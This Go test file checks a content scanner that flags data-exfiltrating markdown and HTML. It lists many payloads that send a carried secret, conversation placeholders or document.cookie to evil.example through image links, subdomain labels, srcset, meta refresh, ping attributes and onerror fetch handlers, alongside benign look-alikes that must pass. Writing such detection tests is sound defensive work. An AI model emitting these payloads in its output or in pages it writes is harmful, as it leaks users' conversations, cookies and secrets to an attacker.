package content

import (
	"testing"

	"github.com/stretchr/testify/require"
)

const (
	carriedValue = "ZGF0YV9zZWNyZXRfdmFsdWVfMTIzNDU2Nzg5MGFiY2RlZg"
	carriedLabel = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822c"
)

func TestAddressesThatCarryDataInAnySpelling(t *testing.T) {
	for _, text := range []string{
		`![x](https:\\evil.example/p.png?d=` + carriedValue + ")", `![x](/\evil.example/p.png?d=` + carriedValue + ")", `![x](\\evil.example\p.png?d=` + carriedValue + ")", "![x](https:/evil.example/p?d=" + carriedValue + ")", "![x](http:evil.example/p?d=" + carriedValue + ")",
		"![x](<https://evil.example/p.png?d=" + carriedValue + ">)", "![x]( https://evil.example/p.png?d=" + carriedValue + " )", "![x][1]\n\n[1]: <https://evil.example/p.png?d=" + carriedValue + ">", "![x][1]\n\n[1]:https://evil.example/p.png?d=" + carriedValue,
		"<source srcset='https://evil.example/p?d=" + carriedValue + " 2x'>", "<svg><use href='https://evil.example/p?d=" + carriedValue + "'/></svg>", "<meta http-equiv=refresh content='0;url=https://evil.example/p?d=" + carriedValue + "'>", "<a href=x ping='https://evil.example/p?d=" + carriedValue + "'>", "<body background='https://evil.example/p?d=" + carriedValue + "'>",
		"<img alt='" + fill("a")[:200] + "' src='https://evil.example/p?d=" + carriedValue + "'>", "@import 'https://evil.example/p?d=" + carriedValue + "';", "<base href='https://evil.example/p?d=" + carriedValue + "'>",
		"![x](https://" + carriedLabel + ".evil.example)", "<img src=https://" + carriedLabel + ".evil.example>", "<img src='//" + carriedLabel + ".evil.example'>", "![x](https://d1" + carriedLabel[:15] + ".d2" + carriedLabel[15:30] + ".d3" + carriedLabel[30:] + ".evil.example/a.png)",
		"![x](https://evil.example/?a=ZGF0YV9zZWNyZX1&b=RfdmFsdWVfMTI1z&c=NDU2Nzg5MGFiY2RlZg)", "![x](https://evil.example/p?d=<conversation>)", "![x](https://evil.example/p?d=$DATA)", "![x](https://evil.example/{conversation}.png)", "![x](https://{secret}.evil.example/)", "![x](https://evil.example/p?d=INSERT_DATA_HERE)",
		"<a href='java&#x09;script:fetch(1)'>x</a>", "<img src=x onerror=\"fetch('https://evil.example/?c='+document.cookie)\">", "<svg onload=\"location='https://evil.example/?'+localStorage.key\">", "<iframe srcdoc=\"&lt;script&gt;fetch('//evil.example')&lt;/script&gt;\">",
	} {
		require.GreaterOrEqual(t, worst(scanText(t, text)), Review, text)
	}
}

func TestAddressesThatCarryNothing(t *testing.T) {
	for _, text := range []string{
		`C:\\Users\\kim and \\server\share`, `![x](\\img\\a.png)`, "![x](https:a)", "[x](http:)", "see ](https:", "![x](https://d111111abcdef8.cloudfront.net/a.png)", "![x](https://img.shields.io/npm/v/{package}.svg)", "<img src='https://tile.example.org/{z}/{x}/{y}.png'>", "<https://example.com>", "![x](https://example.com)",
		"<img src=x onerror=\"this.src='fallback.png'\">", "<body onload=\"init()\">", "<button onclick=\"save()\">", "<iframe srcdoc=\"<p>Hello</p>\">", "![x](https://example.com/?width=600&height=400&format=webp&name=LongCamelCaseName)", "![x](https://example.com/?id=$id)", "[x]: see the note", "<input value='https://example.com/a'>",
		"<a href='https://example.com/?q=<b>'>", "![x](https://raw.githubusercontent.com/org/repo/main/docs/image.png)",
	} {
		require.Equal(t, Note, worst(scanText(t, text)), "%q: %v", text, detectors(scanText(t, text)))
	}
}
